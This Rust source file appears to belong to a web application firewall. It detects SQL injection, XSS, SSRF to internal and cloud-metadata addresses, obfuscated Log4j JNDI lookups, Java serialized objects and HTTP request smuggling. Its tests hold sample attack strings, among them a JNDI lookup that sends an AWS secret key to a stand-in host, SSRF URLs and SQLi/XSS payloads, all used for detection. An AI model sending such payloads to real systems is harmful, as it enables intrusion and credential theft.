//! Checks that are code rather than patterns: libinjection's SQL and HTML tokenisers, the SSRF address
//! classifier (every IPv4 notation `inet_aton` accepts, IPv6 forms, metadata names), serialised-object
//! magic, and the request-framing anomalies a smuggler uses.

use std::net::{Ipv4Addr, Ipv6Addr};

use vxtap_http::{Request, is_scheme_char, is_tchar, is_token};

use crate::normalize::char_floor;

/// A value-level check implemented in code (`engine = "special"`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Special {
    /// libinjection's SQL tokeniser and fingerprint list.
    Sqli,
    /// libinjection's HTML5 tokeniser.
    Xss,
    /// URLs (or bare metadata addresses) that point at internal services.
    Ssrf,
    /// Java serialised object in the raw value (`AC ED 00 05`).
    JavaSerialized,
    /// Log4j `${jndi:…}` lookups, after evaluating the nested lookups used to hide them.
    Jndi,
}

impl Special {
    pub(crate) fn parse(s: &str) -> Option<Special> {
        Some(match s {
            "libinjection-sqli" => Special::Sqli,
            "libinjection-xss" => Special::Xss,
            "ssrf-address" => Special::Ssrf,
            "java-serialized" => Special::JavaSerialized,
            "log4j-jndi" => Special::Jndi,
            _ => return None,
        })
    }

    /// Whether the check reads the value's raw bytes rather than its normalised text: only such a
    /// check can look at binary content, which has no text.
    pub(crate) fn reads_raw_bytes(self) -> bool {
        matches!(self, Special::JavaSerialized)
    }

    /// Runs the check; on a match returns the fragment to report.
    pub(crate) fn run(self, raw: &[u8], norm: &str) -> Option<String> {
        match self {
            Special::Sqli => sqli(norm),
            Special::Xss => xss(norm),
            Special::Ssrf => ssrf(norm),
            Special::JavaSerialized => {
                let magic = memchr::memmem::find(raw, b"\xac\xed\x00\x05")?;
                Some(format!("java serialized object at byte {magic}"))
            }
            Special::Jndi => jndi(norm),
        }
    }
}

/// Evaluates Log4j lookups innermost first (`${lower:j}` → `j`, `${env:X:-j}` → `j`, `${::-j}` → `j`,
/// unknown lookups → empty) until a `${jndi:` lookup appears; at most 64 steps over 1 KiB.
pub(crate) fn jndi(norm: &str) -> Option<String> {
    let start = norm.find("${")?;
    let mut s = norm[start..char_floor(norm, start + 1024)].to_string();
    for _ in 0..64 {
        let Some(open) = s.rfind("${") else { break };
        let Some(close_rel) = s[open..].find('}') else { break };
        let content = &s[open + 2..open + close_rel];
        let compact: String = content.chars().filter(|c| !c.is_whitespace()).collect();
        if compact.starts_with("jndi:") {
            return Some(format!("${{{}}}", excerpt(&compact)));
        }
        let value = if let Some((_, default)) = content.split_once(":-") {
            default.to_string()
        } else if let Some((prefix, rest)) = content.split_once(':') {
            match prefix.trim() {
                "lower" | "upper" | "date" => rest.trim_matches(|c| c == '\'' || c == '"').to_string(),
                _ => String::new(),
            }
        } else {
            String::new()
        };
        s.replace_range(open..open + close_rel + 1, &value);
    }
    None
}

fn guarded<T>(f: impl FnOnce() -> T + std::panic::UnwindSafe) -> Option<T> {
    std::panic::catch_unwind(f).ok()
}

/// Prose that quotes one word (`the "or" operator`): the only quotes of the value are a pair around a
/// single word, opened after a space (or at the start) and closed before a space (or at the end).
/// A closing quote that ends an injected string is not like that.
fn quoted_word_only(b: &[u8]) -> bool {
    let quotes: Vec<usize> = (0..b.len()).filter(|&i| matches!(b[i], b'\'' | b'"' | b'`')).collect();
    let [open, close] = quotes[..] else { return false };
    b[open] == b[close]
        && close > open + 1
        && b[open + 1..close].iter().all(u8::is_ascii_alphabetic)
        && (open == 0 || b[open - 1] == b' ')
        && b.get(close + 1).is_none_or(|&c| c == b' ' || c == b',' || c == b'.')
}

/// The shape an SQL injection must have somewhere: a string closed and followed by an operator or
/// keyword, a keyword followed by an operand, or a comment / terminator after a value. libinjection
/// (a few microseconds a call) runs only on values with this shape (a regex DFA pass, nanoseconds).
const SQLI_SHAPE: &str = r#"['"`]\s*\)*\s*(?:[-+*/%|&^=<>!;,()#:@\\]|\b(?:or|and|xor|union|select|order|group|having|limit|procedure|into|like|rlike|regexp|not|is|in|between|div|mod|sounds|collate|escape|where|from|as|waitfor|exec|execute|sleep|benchmark)\b)|\b(?:union|select|sleep|benchmark|waitfor|order\s+by|group\s+by|having|insert|update|delete|drop|exec|declare|procedure|xor|or|and|not|if|case|when|where)\b[^a-z]{0,6}(?:\d|select|from|null|true|false|@@|\(|=|--|#|/\*|char|concat|sleep|benchmark|ascii|substr|exists|all|distinct|case|when)|[\d'"`)]\s*(?:--|#|/\*)|['"`)]\s*;|;\s*(?:drop|select|insert|update|delete|exec|execute|declare|shutdown|create|alter|truncate|waitfor|grant|set)\b|@@\w|\b0x[0-9a-f]{2,}"#;

fn sqli_shape() -> &'static regex::bytes::Regex {
    static RE: std::sync::OnceLock<regex::bytes::Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| {
        regex::bytes::RegexBuilder::new(SQLI_SHAPE)
            .unicode(false)
            .build()
            .unwrap_or_else(|e| panic!("SQLi shape regex: {e}"))
    })
}

/// libinjection SQLi on values that have the shape of an injection.
fn sqli(norm: &str) -> Option<String> {
    // libinjection decides on the first few tokens; 1 KiB is plenty and bounds its time
    let b = &norm.as_bytes()[..norm.len().min(1024)];
    if b.len() < 2 || !sqli_shape().is_match(b) {
        return None;
    }
    if quoted_word_only(b) {
        return None;
    }
    let r = guarded(|| libinjectionrs::detect_sqli(b))?;
    if !r.is_injection() {
        return None;
    }
    let fp = r.fingerprint.map(|f| f.to_string()).unwrap_or_default();
    Some(format!("libinjection fingerprint {fp}: {}", excerpt(norm)))
}

fn xss(norm: &str) -> Option<String> {
    let b = &norm.as_bytes()[..norm.len().min(2048)];
    if !b.iter().any(|&c| matches!(c, b'<' | b'"' | b'\'' | b'`' | b'>')) {
        return None;
    }
    let r = guarded(|| libinjectionrs::detect_xss(b))?;
    r.is_injection().then(|| format!("libinjection html: {}", excerpt(norm)))
}

/// At most 120 characters of a value, for a finding's fragment.
pub(crate) fn excerpt(s: &str) -> String {
    s[..char_floor(s, 120)].to_string()
}

/// Host names of cloud metadata services and names that resolve to loopback.
const METADATA_HOSTS: &[&str] = &[
    "metadata.google.internal",
    "metadata.goog",
    "metadata",
    "instance-data",
    "instance-data.ec2.internal",
    "metadata.azure.com",
    "metadata.packet.net",
    "metadata.tencentyun.com",
];
const LOOPBACK_SUFFIXES: &[&str] = &[
    "localhost",
    ".localhost",
    "localhost.localdomain",
    "localtest.me",
    "lvh.me",
    "vcap.me",
    "127-0-0-1.org.uk",
    "localho.st",
];
/// Names that only resolve inside a private network (cluster DNS, cloud-internal zones, mDNS).
const INTERNAL_SUFFIXES: &[&str] = &[
    ".internal",
    ".local",
    ".localdomain",
    ".svc",
    ".cluster.local",
    ".intranet",
    ".corp",
    ".lan",
    ".home.arpa",
];
const REBIND_SUFFIXES: &[&str] = &[".nip.io", ".xip.io", ".sslip.io", ".rbndr.us", ".1u.ms", ".traefik.me"];

/// How an address is dangerous as an SSRF target.
fn classify_v4(ip: Ipv4Addr) -> Option<&'static str> {
    let o = ip.octets();
    if matches!(o, [169, 254, 169, 254] | [169, 254, 170, 2] | [100, 100, 100, 200] | [192, 0, 0, 192]) {
        return Some("cloud metadata address");
    }
    if ip.is_loopback() || ip.is_unspecified() {
        return Some("loopback address");
    }
    if ip.is_private() || ip.is_link_local() || (o[0] == 100 && (64..128).contains(&o[1])) {
        return Some("internal address");
    }
    None
}

fn classify_v6(ip: Ipv6Addr) -> Option<&'static str> {
    if let Some(v4) = ip.to_ipv4_mapped() {
        return classify_v4(v4).or(Some("IPv4-mapped IPv6 address"));
    }
    let s = ip.segments();
    if s == [0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254] {
        return Some("cloud metadata address");
    }
    if ip.is_loopback() || ip.is_unspecified() {
        return Some("loopback address");
    }
    if (s[0] & 0xfe00) == 0xfc00 || (s[0] & 0xffc0) == 0xfe80 {
        return Some("internal address");
    }
    // IPv4-compatible (deprecated) ::a.b.c.d
    if s[..6] == [0; 6] {
        return Some("IPv4-compatible IPv6 address");
    }
    None
}

/// Parses an IPv4 address the way `inet_aton` does: 1 to 4 parts, each decimal, octal (`0` prefix) or
/// hex (`0x`). Returns the address and whether the notation is anything but plain dotted decimal.
pub(crate) fn parse_ipv4_any(host: &str) -> Option<(Ipv4Addr, bool)> {
    let parts: Vec<&str> = host.split('.').collect();
    if parts.is_empty() || parts.len() > 4 || parts.iter().any(|p| p.is_empty()) {
        return None;
    }
    let mut nums = Vec::with_capacity(4);
    let mut odd = parts.len() != 4;
    for p in &parts {
        let (digits, radix) = if let Some(h) = p.strip_prefix("0x") {
            odd = true;
            (h, 16)
        } else if p.len() > 1 && p.starts_with('0') {
            odd = true;
            (&p[1..], 8)
        } else {
            (*p, 10)
        };
        if digits.is_empty() && radix == 16 {
            nums.push(0u64);
            continue;
        }
        if digits.len() > 12 {
            return None;
        }
        nums.push(u64::from_str_radix(digits, radix).ok()?);
    }
    let last = *nums.last()?;
    let lead = &nums[..nums.len() - 1];
    if lead.iter().any(|&n| n > 255) {
        return None;
    }
    let rest_bits = 8 * (4 - lead.len() as u32);
    if last >= (1u64 << rest_bits) {
        return None;
    }
    let mut v: u32 = 0;
    for (i, &n) in lead.iter().enumerate() {
        v |= (n as u32) << (24 - 8 * i as u32);
    }
    v |= last as u32;
    Some((Ipv4Addr::from(v), odd))
}

/// Classifies a URL host (already lower-cased; brackets, port and user-info removed).
pub(crate) fn classify_host(host: &str) -> Option<String> {
    let host = host.trim_end_matches('.');
    if host.is_empty() {
        return None;
    }
    if let Ok(v6) = host.parse::<Ipv6Addr>() {
        return classify_v6(v6).map(|c| format!("{c} [{host}]"));
    }
    if host.bytes().all(|b| b.is_ascii_hexdigit() || b == b'.' || b == b'x') {
        if let Some((ip, odd)) = parse_ipv4_any(host) {
            if odd {
                return Some(format!("IPv4 address in unusual notation {host} = {ip}"));
            }
            return classify_v4(ip).map(|c| format!("{c} {ip}"));
        }
        if host.bytes().all(|b| b.is_ascii_digit() || b == b'.') && host.split('.').count() == 4 {
            return Some(format!("invalid dotted IPv4 {host}"));
        }
    }
    // an internal address followed by more labels: `127.0.0.1.evil.example`, `10.0.0.1.sslip.io`
    let labels: Vec<&str> = host.splitn(5, '.').collect();
    if labels.len() == 5
        && let Ok(ip) = labels[..4].join(".").parse::<Ipv4Addr>()
        && let Some(c) = classify_v4(ip)
    {
        return Some(format!("{c} {ip} inside the name {host}"));
    }
    if METADATA_HOSTS.contains(&host) {
        return Some(format!("cloud metadata host {host}"));
    }
    if LOOPBACK_SUFFIXES.iter().any(|s| host == s.trim_start_matches('.') || host.ends_with(s)) {
        return Some(format!("loopback name {host}"));
    }
    if REBIND_SUFFIXES.iter().any(|s| host.ends_with(s)) {
        return Some(format!("DNS rebinding name {host}"));
    }
    if INTERNAL_SUFFIXES.iter().any(|s| host.ends_with(s)) || host.starts_with("kubernetes.default") {
        return Some(format!("internal name {host}"));
    }
    None
}

/// Schemes that only an SSRF payload sends to a web application parameter.
const SSRF_SCHEMES: &[&str] = &["gopher", "dict", "tftp", "ldap", "sftp", "netdoc", "jar"];

fn ssrf(norm: &str) -> Option<String> {
    // Bare metadata addresses anywhere.
    for m in ["169.254.169.254", "fd00:ec2::254", "metadata.google.internal", "100.100.100.200"] {
        if norm.contains(m) {
            return Some(format!("cloud metadata address {m}"));
        }
    }
    let b = norm.as_bytes();
    let mut from = 0;
    let mut checked = 0;
    while let Some(p) = memchr::memmem::find(&b[from..], b"//") {
        let at = from + p;
        from = at + 2;
        checked += 1;
        if checked > 16 {
            break;
        }
        // scheme before "//" (with ':'), or protocol-relative at the start of the value
        let scheme = if at > 0 && b[at - 1] == b':' {
            let s_end = at - 1;
            let s_start = b[..s_end].iter().rposition(|&c| !is_scheme_char(c)).map_or(0, |q| q + 1);
            &norm[s_start..s_end]
        } else if norm[..at].trim().is_empty() {
            ""
        } else {
            continue;
        };
        if scheme == "file" {
            continue;
        }
        if SSRF_SCHEMES.contains(&scheme) {
            return Some(format!("{scheme}:// URL"));
        }
        if !(scheme.is_empty() || scheme.starts_with("http") || scheme == "ftp" || scheme.ends_with("ws")) {
            continue;
        }
        let rest = &norm[at + 2..];
        let end =
            rest.find(['/', '?', '#', '\\', ' ', '"', '\'', '<', '>', ',', ';', '!']).unwrap_or(rest.len());
        let authority = &rest[..end];
        // every '@'-separated part: parsers disagree on which one is the host
        for auth in authority.rsplit('@').take(4) {
            if let Some(c) = classify_authority(auth) {
                return Some(format!(
                    "URL to {c}: {}",
                    excerpt(&norm[at.saturating_sub(scheme.len() + 1)..])
                ));
            }
        }
    }
    None
}

fn classify_authority(auth: &str) -> Option<String> {
    {
        let host = if let Some(inner) = auth.strip_prefix('[') {
            let close = inner.find(']').unwrap_or(inner.len());
            let h = &inner[..close];
            h.split('%').next().unwrap_or(h)
        } else {
            match auth.rfind(':') {
                Some(c) if auth[c + 1..].bytes().all(|d| d.is_ascii_digit()) => &auth[..c],
                _ => auth,
            }
        };
        classify_host(host)
    }
}

/// A request-level framing check (`engine = "protocol"`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum ProtoCheck {
    /// Both Content-Length and Transfer-Encoding.
    ClTe,
    /// More than one Content-Length (lines or list items).
    DuplicateCl,
    /// A Content-Length that is not one plain decimal number.
    InvalidCl,
    /// A Transfer-Encoding that is not exactly `chunked` (or a list ending in it), or repeated.
    ObfuscatedTe,
    /// A header value carrying CR / LF: an obsolete folded line or an injected header.
    ObsFold,
    /// A header name with characters outside RFC 9110 `tchar`.
    InvalidHeaderName,
    /// A request-target with whitespace or control characters, or a method that is not a token.
    InvalidRequestLine,
}

impl ProtoCheck {
    pub(crate) fn parse(s: &str) -> Option<ProtoCheck> {
        Some(match s {
            "cl-te" => ProtoCheck::ClTe,
            "duplicate-cl" => ProtoCheck::DuplicateCl,
            "invalid-cl" => ProtoCheck::InvalidCl,
            "obfuscated-te" => ProtoCheck::ObfuscatedTe,
            "obs-fold" => ProtoCheck::ObsFold,
            "invalid-header-name" => ProtoCheck::InvalidHeaderName,
            "invalid-request-line" => ProtoCheck::InvalidRequestLine,
            _ => return None,
        })
    }

    /// Runs the check; on a match returns (location, fragment).
    pub(crate) fn run(self, req: &Request) -> Option<(String, String)> {
        let is = |h: &vxtap_http::Header, n: &str| h.name.eq_ignore_ascii_case(n.as_bytes());
        let shown = |b: &[u8]| excerpt(&String::from_utf8_lossy(b));
        match self {
            ProtoCheck::ClTe => {
                let cl = req.headers.iter().find(|h| is(h, "content-length"))?;
                let te = req.headers.iter().find(|h| is(h, "transfer-encoding"))?;
                Some((
                    "headers.transfer-encoding".into(),
                    format!(
                        "Content-Length: {} with Transfer-Encoding: {}",
                        shown(&cl.value),
                        shown(&te.value)
                    ),
                ))
            }
            ProtoCheck::DuplicateCl => {
                let cls: Vec<_> = req.headers.iter().filter(|h| is(h, "content-length")).collect();
                let items: usize = cls.iter().map(|h| h.value.split(|&b| b == b',').count()).sum();
                (items > 1).then(|| {
                    let vals: Vec<String> = cls.iter().map(|h| shown(&h.value)).collect();
                    ("headers.content-length".into(), format!("Content-Length: {}", vals.join(" / ")))
                })
            }
            ProtoCheck::InvalidCl => req.headers.iter().filter(|h| is(h, "content-length")).find_map(|h| {
                let ok = h
                    .value
                    .split(|&b| b == b',')
                    .all(|v| !v.trim_ascii().is_empty() && v.trim_ascii().iter().all(u8::is_ascii_digit));
                (!ok).then(|| {
                    ("headers.content-length".into(), format!("Content-Length: {}", shown(&h.value)))
                })
            }),
            ProtoCheck::ObfuscatedTe => {
                let tes: Vec<_> = req
                    .headers
                    .iter()
                    .filter(|h| {
                        is(h, "transfer-encoding")
                            || h.name.trim_ascii().eq_ignore_ascii_case(b"transfer-encoding")
                    })
                    .collect();
                let bad = tes.len() > 1
                    || tes.iter().any(|h| {
                        let v = h.value.to_ascii_lowercase();
                        let items: Vec<&[u8]> = v.split(|&b| b == b',').map(<[u8]>::trim_ascii).collect();
                        h.name.len() != 17
                            || items.last() != Some(&&b"chunked"[..])
                            || items.iter().any(|i| {
                                !matches!(*i, b"chunked" | b"gzip" | b"deflate" | b"compress" | b"br")
                            })
                            || h.value.iter().any(|&b| !(0x20..0x7f).contains(&b))
                    });
                bad.then(|| {
                    let vals: Vec<String> = tes.iter().map(|h| shown(&h.value)).collect();
                    ("headers.transfer-encoding".into(), format!("Transfer-Encoding: {}", vals.join(" / ")))
                })
            }
            ProtoCheck::ObsFold => {
                req.headers.iter().find(|h| memchr::memchr2(b'\r', b'\n', &h.value).is_some()).map(|h| {
                    let name = String::from_utf8_lossy(&h.name).to_ascii_lowercase();
                    (
                        format!("headers.{name}"),
                        format!("line break in {name} header value: {}", shown(&h.value)),
                    )
                })
            }
            ProtoCheck::InvalidHeaderName => {
                req.headers.iter().find(|h| !h.name.iter().all(|&b| is_tchar(b))).map(|h| {
                    ("headers".into(), format!("header name {:?}", String::from_utf8_lossy(&h.name)))
                })
            }
            ProtoCheck::InvalidRequestLine => {
                // chunks without an early exit inside vectorise: a target can be hundreds of KiB
                let bad_target = req
                    .target
                    .chunks(64)
                    .any(|c| c.iter().fold(false, |bad, &b| bad | (b <= b' ') | (b == 0x7f)));
                let bad_method = !is_token(&req.method);
                (bad_target || bad_method).then(|| {
                    ("uri".into(), format!("request line {} {}", shown(&req.method), shown(&req.target)))
                })
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ipv4_notations() {
        assert_eq!(parse_ipv4_any("127.0.0.1"), Some((Ipv4Addr::new(127, 0, 0, 1), false)));
        assert_eq!(parse_ipv4_any("2130706433"), Some((Ipv4Addr::new(127, 0, 0, 1), true)));
        assert_eq!(parse_ipv4_any("0x7f000001"), Some((Ipv4Addr::new(127, 0, 0, 1), true)));
        assert_eq!(parse_ipv4_any("0177.0.0.1"), Some((Ipv4Addr::new(127, 0, 0, 1), true)));
        assert_eq!(parse_ipv4_any("127.1"), Some((Ipv4Addr::new(127, 0, 0, 1), true)));
        assert_eq!(parse_ipv4_any("0xa9.0xfe.0xa9.0xfe"), Some((Ipv4Addr::new(169, 254, 169, 254), true)));
        assert_eq!(parse_ipv4_any("256.1.1.1"), None);
        assert_eq!(parse_ipv4_any("example"), None);
    }

    #[test]
    fn ssrf_urls() {
        for bad in [
            "http://169.254.169.254/latest/meta-data/",
            "http://[::1]:8080/",
            "http://0x7f.1/admin",
            "https://user@10.0.0.5:8443/x",
            "gopher://x:70/_test",
            "http://metadata.google.internal/computemetadata/v1/",
            "//localhost/admin",
            "http://[::ffff:127.0.0.1]/",
            "http://127.0.0.1.nip.io/",
            "http://2852039166/",
            "url=http://localhost:6379/",
            "http://localhost.localdomain/",
            "http://425.510.425.510/",
            "https://kubernetes.default.svc/api",
            "jar:http://127.0.0.1!/",
            "http://127.0.0.1.evil.example/",
        ] {
            assert!(ssrf(bad).is_some(), "{bad}");
        }
        for good in [
            "https://www.example.com/a?b=c",
            "http://8.8.8.8/",
            "see https://docs.rs/regex",
            "a // comment",
            "12345",
        ] {
            assert!(ssrf(good).is_none(), "{good}");
        }
    }

    #[test]
    fn jndi_nested_lookups() {
        for bad in [
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
            "${${env:nope:-j}ndi${env:nope:-:}${env:nope:-l}dap${env:nope:-:}//x/a}",
            "x ${j${upper:n}di:dns://x.example/${env:aws_secret_access_key}}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
        ] {
            assert!(jndi(bad).is_some(), "{bad}");
        }
        assert!(jndi("${home}/bin and ${user:-guest}").is_none());
        assert!(jndi("price: $5 {discount}").is_none());
    }

    #[test]
    fn libinjection_wrappers() {
        assert!(sqli("1' or '1'='1").is_some());
        assert!(sqli("o'brien").is_none());
        assert!(sqli("the \"or\" operator").is_none());
        assert!(sqli("admin\" or \"1\"=\"1").is_some());
        assert!(xss("<img src=x onerror=alert(1)>").is_some());
        assert!(xss("<b>bold</b> text").is_none());
    }
}
